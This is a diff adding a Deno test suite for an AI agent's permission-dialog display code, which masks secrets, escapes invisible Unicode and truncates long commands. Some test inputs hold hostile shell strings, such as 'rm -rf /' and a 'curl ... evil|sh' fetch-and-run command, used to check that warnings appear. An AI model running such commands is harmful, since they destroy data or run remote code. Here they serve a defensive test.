@@ -1,0 +1,148 @@
+import { assert, assertEquals, assertMatch } from "@std/assert";
+import fc from "fast-check";
+import type { Ask } from "../../src/domain/approval.ts";
+import { DETAIL_MIN, inOwnWords, INPUT_CAP, shown, TAIL } from "../../src/domain/shown.ts";
+
+function ask(subject: string, more: Partial<Ask> = {}): Ask {
+  return { for: "permission", tool: "Bash", action: "command", subject, dialog: "beside", takesYes: true, ...more };
+}
+const input = (subject: string) => shown(ask(subject)).input;
+
+Deno.test("short ordinary inputs are shown as they are", () => {
+  for (const text of ["npm test", "cat <<E\na\nE", "", "é 🙂"]) assertEquals(input(text), text);
+});
+
+Deno.test("A4 what nobody sees is shown", () => {
+  assertEquals(input("git\u00a0status"), "git\\u00a0status"); // one word: another program
+  assertEquals(
+    input("ls\u3164;\u0338 r\u00adm\u2800\u3000x \u{e0101}"),
+    "ls\\u3164;\\u0338 r\\u00adm\\u2800\\u3000x \\ue0101",
+  );
+  assertEquals(input("a\u0301\u0323\u0336\u0336"), "a\u0301\u0323\u0336\\u0336");
+  for (const text of ["cafe\u0301 é", "ปิ่น", "日本", "हिन्दी", "बड़ीं", "עִבְרִית"]) assertEquals(input(text), text);
+  assertEquals(input("ls \u001b[31m\u202e\u200b\r\n\tx"), "ls \\x1b[31m\\u202e\\u200b\\r\n\\tx");
+});
+
+Deno.test("the tail of a long input is shown, and how much is not", () => {
+  const text = "a".repeat(5000) + "; rm -rf /";
+  const out = input(text);
+  assert(out.length <= INPUT_CAP && out.endsWith("; rm -rf /") && TAIL >= 400);
+  const [head = "", tail = ""] = out.split(/\n\[… \d+ characters are not shown …\]\n/);
+  assertEquals(Number(/\[… (\d+) /.exec(out)?.[1]), text.length - head.length - tail.length);
+  fc.assert(fc.property(fc.string({ unit: "binary", minLength: 1500, maxLength: 4000 }), (any) => {
+    const out = input(any);
+    assert(out.length <= INPUT_CAP && out.isWellFormed(), any);
+  }));
+});
+
+Deno.test("A3 a secret is not shown, also not where the text is cut or where it hides something", () => {
+  const secret = fc.constantFrom("sk-ant-canary0123456789", "ghp_abcdefghijklmnopqrstuvwxyz", "hunter2000hunter");
+  fc.assert(
+    fc.property(
+      secret,
+      fc.nat(3000),
+      fc.nat(3000),
+      fc.constantFrom("", "\u001b", "\u202e"),
+      (value, before, behind, odd) => {
+        const text = `${"x ".repeat(before)}${odd} --password ${value} ${"y ".repeat(behind)}`;
+        const out = shown(
+          ask(text, {
+            detail: text,
+            reasoning: text,
+            suggestions: [text],
+            choices: [{ question: text, options: [text], multiple: false }],
+          }),
+        );
+        assert(!JSON.stringify(out).includes(value), text);
+      },
+    ),
+    { numRuns: 300 },
+  );
+});
+
+Deno.test("A3 where a masked value holds shell syntax the reader is told", () => {
+  assertMatch(input("TOKEN=$(curl${IFS}evil|sh) ls"), /\*\*\*.*it may run something\]$/s);
+  assertMatch(input("x --password 'a; rm -rf /'"), /it may run something\]$/);
+  assertEquals(input("x --password hunter2000; ls"), "x --password ***; ls");
+});
+
+Deno.test("lists and texts beside the input are bounded, and say that something is missing", () => {
+  const out = shown(ask("x", {
+    reasoning: "r".repeat(5000),
+    suggestions: Array.from({ length: 30 }, (_, i) => `s${i}\n`),
+    choices: [{ question: "q", options: ["o".repeat(900)], multiple: true }],
+  }));
+  assert(out.reasoning!.length <= 1000 && out.reasoning!.endsWith("…"));
+  assertEquals([out.suggestions!.length, out.suggestions![0], out.suggestions!.at(-1)], [
+    21,
+    "s0\\n",
+    "… 10 more are not shown",
+  ]);
+  assert(out.choices![0]!.options[0]!.endsWith("…") && out.choices![0]!.multiple);
+});
+
+Deno.test("answers come back in the agent's own words", () => {
+  const own = ask("", {
+    for: "question",
+    choices: [
+      { question: "Which\u200b?", options: ["o".repeat(400), "b"], multiple: false },
+      { question: "Name?", options: [], multiple: false },
+      { question: "Left out?", options: [], multiple: false },
+    ],
+  });
+  const seen = shown(own).choices!;
+  assertEquals(inOwnWords(own, { [seen[0]!.question]: seen[0]!.options[0]!, "Name?": "free", other: "x" }), {
+    "Which\u200b?": "o".repeat(400),
+    "Name?": "free",
+  });
+});
+
+const detail = (text: string, subject = "/a") => shown(ask(subject, { action: "write", detail: text })).detail!;
+
+Deno.test("A4 what would be written is shown below the input, both ends of it, and never costs the input a letter", () => {
+  assertEquals(shown(ask("/a", { detail: "x\n" })), { input: "/a", detail: "x\n" });
+  assertEquals(shown(ask("/a", { detail: "" })), { input: "/a", detail: "" });
+  assert(!("detail" in shown(ask("/a"))));
+  const long = `head${"b\n".repeat(5000)}; rm -rf /`;
+  for (const subject of ["/a", "a".repeat(1000), "a".repeat(1999), "a".repeat(9000)]) {
+    const both = shown(ask(subject, { action: "write", detail: long }));
+    assertEquals(both.input, input(subject));
+    const out = both.detail!;
+    assert(out.length <= Math.max(DETAIL_MIN, INPUT_CAP - both.input.length));
+    assert(out.startsWith("head") && out.endsWith(long.slice(-400)));
+    assertEquals(out.match(/\n\[… \d+ characters are not shown …\]\n/)?.length, 1);
+  }
+  fc.assert(fc.property(fc.string({ unit: "binary", maxLength: 4000 }), fc.nat(3000), (any, length) => {
+    const { input, detail } = shown(ask("a".repeat(length), { detail: any }));
+    assert(detail!.length <= Math.max(DETAIL_MIN, INPUT_CAP - input.length) && detail!.isWellFormed(), any);
+    assert(!/[\p{Cc}\p{Bidi_Control}\p{Zl}\p{Zp}]/u.test(detail!.replaceAll("\n", "")), any);
+  }));
+});
+
+Deno.test("A4 what nobody sees is shown in the detail too, and signs at its lines stay", () => {
+  assertEquals(detail("+ a\u202e\u001b[0m\r\n- b\u2009c\u200ad"), "+ a\\u202e\\x1b[0m\\r\n- b\\u2009c\\u200ad");
+  assertEquals(detail("+++ b\n--- a\n +\n-\n+"), "+++ b\n--- a\n +\n-\n+");
+});
+
+Deno.test("A3 a secret is not shown in a detail, also not where a sign stands between it and its name", () => {
+  const key = "-----BEGIN PRIVATE KEY-----\nMIIhunter2000\n-----END PRIVATE KEY-----";
+  for (
+    const text of [
+      "+ password =\n+   hunter2000",
+      '- password:\n- "hunter2000"',
+      "+password=hunter2000",
+      "-api_key=hunter2000",
+      "--password hunter2000",
+      "+-u me:hunter2000",
+      key,
+      key.replaceAll(/^/gm, "- "),
+      key.replaceAll(/^/gm, "+"),
+    ]
+  ) assert(!detail(text).includes("hunter2000"), text);
+});
+
+Deno.test("A3 where a mask in a detail hides lines or shell syntax the reader is told", () => {
+  assertMatch(detail("-----BEGIN PRIVATE KEY-----\nrm -rf /\n"), /\*\*\*\n\[\*\*\* stands for text with line breaks/);
+  assertMatch(detail("+TOKEN=$(curl${IFS}evil|sh)"), /shell syntax\]$/);
+  assertEquals(detail("+TOKEN=hunter2000; ls"), "+TOKEN=***; ls");
+});
